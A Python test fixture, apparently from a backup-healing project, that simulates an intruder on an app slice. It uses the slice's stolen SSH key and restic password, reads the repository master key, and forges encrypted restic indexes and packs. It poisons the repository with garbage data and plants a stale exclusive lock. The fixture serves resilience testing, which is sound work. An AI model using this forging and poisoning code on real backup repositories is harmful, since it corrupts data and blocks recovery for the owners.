"""A thief on a slice: root there, with the very key and password of its backups; and an index that only looks like restic's."""

import base64
import hashlib
import json
import os
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.poly1305 import Poly1305
from running_lab import RunningLab

from tfheal.core.stores import key_name, password_name
from tfheal.edge.vault import AgeVault

GARBAGE = 30  # packs; of 31 that claim to hold the same, a prune keeps one
_CLAMP = bytes.fromhex("0ffffffc0ffffffc0ffffffc0fffffff")[::-1]
_HOLD = """\
umask 077; mkdir -p /root/thief; cd /root/thief
printf %s '{password}' >password
cat >key <<'END'
{key}END
options='-F /dev/null -T -i key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR'
store='{user}@{address}'
repository() {{ timeout 20 restic -r rclone: -o "rclone.program=ssh $options $store" -p password "$@"; }}
{script}
"""
_PUT = """\
put() { runuser -u tf-files-store -- sh -c 'put() { mkdir -p "${1%/*}" && cat >"$1"; }; eval "$(cat)"'; }
"""


@dataclass(frozen=True, slots=True)
class Thief:
    """Who broke into a slice of the app `files`, whose backups go to `store`."""

    lab: RunningLab
    slice: str
    store: str

    def does(self, script: str, *, user: str = "tf-files-store", check: int | None = 0) -> str:
        """Run sh on the slice: `repository` is restic by the stolen credentials, and `ssh $options "$store"` the way there."""
        key, password = (self._secret(name(self.slice)) for name in (key_name, password_name))
        address = self.lab.address(self.store)
        words = {"key": key, "password": password, "address": address, "user": user, "script": script}
        try:
            return self.lab.on(self.slice, _HOLD.format_map(words), check=check)
        finally:
            self.lab.on(self.slice, "rm -rf /root/thief")

    def poisons(self) -> str:
        """Add packs of garbage, and an index for each that says that it holds what a good pack does; return that pack."""
        said = self.does(
            "repository cat masterkey; for one in $(repository list index); do repository cat index $one; echo; done"
        )
        master, end = json.JSONDecoder().raw_decode(said)
        indexes = [json.loads(line) for line in said[end:].splitlines() if line.strip()]
        good = min((pack for index in indexes for pack in index["packs"]), key=_size)
        script = ""
        for number in range(GARBAGE):
            pack = hashlib.sha256(bytes([number]) * _size(good)).hexdigest()
            index = sealed(master, json.dumps({"packs": [{"id": pack, "blobs": good["blobs"]}]}).encode())
            text = base64.b64encode(index).decode()
            script += f"head -c {_size(good)} /dev/zero | tr '\\0' '\\{number:03o}' | put data/{pack[:2]}/{pack}\n"
            script += f"echo {text} | base64 -d | put index/{hashlib.sha256(index).hexdigest()}\n"
        self._put(script)
        return str(good["id"])

    def locks(self, host: str, seconds: float) -> str:
        """Add a lock that forbids all else, of a process of a machine that is not there, so old; return its file."""
        at = self.lab.on(self.store, f"date -u -d '{seconds:g} seconds ago' +%Y-%m-%dT%H:%M:%SZ").strip()
        words = {"time": at, "exclusive": True, "hostname": host, "username": "root", "pid": 4_194_303}
        file = sealed(json.loads(self.does("repository --no-lock cat masterkey")), json.dumps(words).encode())
        path = f"locks/{hashlib.sha256(file).hexdigest()}"
        self._put(f"echo {base64.b64encode(file).decode()} | base64 -d | put {path}\n")
        return path

    def password(self) -> str:
        """Return what opens the repository of the slice."""
        return self._secret(password_name(self.slice))

    def _put(self, script: str) -> None:
        """Add files to the repository: the key adds what it wants there, and here the user that it lets in does."""
        folder = f"/srv/tfheal/files/store/{self.slice}"
        self.lab.on(self.store, f"{_PUT}cd {folder} && put <<'END'\n{script}END\n")

    def _secret(self, name: str) -> str:
        key = next(word.partition("=")[2] for word in self.lab.around if "AGE_KEY" in word)
        vault = AgeVault(self.lab.workspace, Path(key))
        return vault.get("files", name, vault.latest("files", name)).reveal()


def sealed(master: Mapping[str, Any], plain: bytes) -> bytes:
    """Given restic's master key, return a file as restic writes it: AES-256 in counter mode, and Poly1305-AES."""
    nonce = os.urandom(16)
    encrypt, mac, r = (base64.b64decode(each) for each in (master["encrypt"], master["mac"]["k"], master["mac"]["r"]))
    body = _ciphered(encrypt, modes.CTR(nonce), plain)
    clamped = bytes(one & other for one, other in zip(r, _CLAMP, strict=True))
    one_time = clamped + _ciphered(mac, modes.ECB(), nonce)  # noqa: S305 - one block, as Poly1305-AES is defined
    return nonce + body + Poly1305.generate_tag(one_time, body)


def _ciphered(key: bytes, mode: modes.Mode, plain: bytes) -> bytes:
    cipher = Cipher(algorithms.AES(key), mode).encryptor()
    return cipher.update(plain) + cipher.finalize()


def _size(pack: Mapping[str, Any]) -> int:
    """Return how large a pack of these blobs is: 37 bytes of header for each, 41 if compressed, and 36 at its end."""
    heads = sum(41 if "uncompressed_length" in blob else 37 for blob in pack["blobs"])
    return int(sum(blob["length"] for blob in pack["blobs"]) + heads + 36)
